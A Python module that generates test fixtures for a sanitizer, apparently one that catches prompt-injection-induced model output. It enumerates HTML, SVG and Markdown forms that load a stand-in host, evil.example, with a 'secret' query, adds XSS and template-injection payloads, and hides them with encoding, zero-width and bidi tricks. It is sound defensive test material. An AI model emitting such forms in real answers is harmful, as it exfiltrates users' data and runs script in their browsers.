"""Makes what a model that obeys a hostile document would write: every known way to load or link something remote.

Deterministic from a seed; used by test_hostile_outputs.py.
"""

from __future__ import annotations

import random
from html import escape

HOST = "//evil.example/"
URL = f"http:{HOST}x.png?q=secret"

FORMS = (
    *(f'<img src="{URL}">', f"<img srcset='{URL} 2x'>", f"<picture><source srcset={URL}></picture>"),
    *(f'<svg><image href="{URL}"/></svg>', f'<svg><use xlink:href="{URL}#a"/></svg>', f"<video poster={URL}>"),
    *(f'<video src="{URL}"></video>', f"<audio src={URL} autoplay>", f"<track src={URL}>", f"<embed src={URL}>"),
    *(f'<input type=image src="{URL}">', f'<table background="{URL}">', f'<p style="background:url({URL})">'),
    *(f'<a href="{URL}">more</a>', f'<a href="#" ping="{URL}">x</a>', f"<form action={URL}><input name=p></form>"),
    *(f'<iframe src="{URL}">', f'<object data="{URL}">', f'<link rel=stylesheet href="{URL}">', f"<base href={HOST}>"),
    *(f"<style>@import '{URL}'</style>", f'<meta http-equiv=refresh content="0;url={URL}">', f"<script src={URL}>"),
    *("<div onload=alert(1)>", "<svg/onload=alert(1)>", '<a href="javascript:alert(1)">x</a>', "<math><mi xlink:href>"),
    *(
        "<div style='position:fixed;inset:0'>log in</div>",
        "<button formaction=//evil.example/>",
        "<details open ontoggle>",
    ),
    *("<!--><img src=//evil.example/>-->", "<![CDATA[<img src=//evil.example/>]]>", '"><img src=//evil.example/>'),
    *(f"![x]({URL})", f"![x][r]\n\n[r]: {URL}", f"[more]({URL})", f"[more][r]\n\n[r]: {URL}", f"<{URL}>", URL),
    *(f"[![x]({URL})]({URL})", f"[1]({URL})", f"[1]: {URL}", f"[^1]: {URL}", "www.evil.example/?q=secret"),
    *("<a@evil.example>", "\\<img src=//evil.example/>", "`<img src=//evil.example/>`", "$\\href{//evil.example}{x}$"),
    *("{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "</article></div><img src=//evil.example/>"),
    *(f"\u202e<img src={URL}>\u202c", f"<im\u200bg src={URL}>", f"＜img src={URL}＞", f"<img\x00 src={URL}>"),
)
"""One of each way; HTML, Markdown, templates, and ways to hide them."""


def make_outputs(count: int, seed: int) -> list[str]:
    """Outputs in which forms stand whole, encoded, cut, nested or in pieces, among words and marks; no two alike."""
    chance, made = random.Random(seed), dict[str, None]()
    while len(made) < count:
        made[_make_output(FORMS[len(made) % len(FORMS)], chance)] = None
    return list(made)


def make_output(seed: int) -> str:
    """One such output; seeds in a row take one form after another."""
    return _make_output(FORMS[seed % len(FORMS)], random.Random(seed))


def _make_output(form: str, chance: random.Random) -> str:
    other = chance.choice(FORMS)
    written = chance.choice(
        [
            form,
            escape(form),
            "".join(f"&#{ord(one)};" if one in "<>!([" else one for one in form),
            form[: chance.randint(1, len(form))] + other,
            form.replace("img", chance.choice(["IMG", "iMg", "image", "img/", "img\n"])),
            f"{form[:4]}[1]{form[4:]}",
            f"**{form}**" + other[: len(other) // 2],
        ]
    )
    ahead, behind = chance.choice(["", "He said ", "The vote [1] ", "“", "- "]), ["", " [1]", ". [2][1]", " end"]
    return f"{ahead}{written}{chance.choice(behind)}"
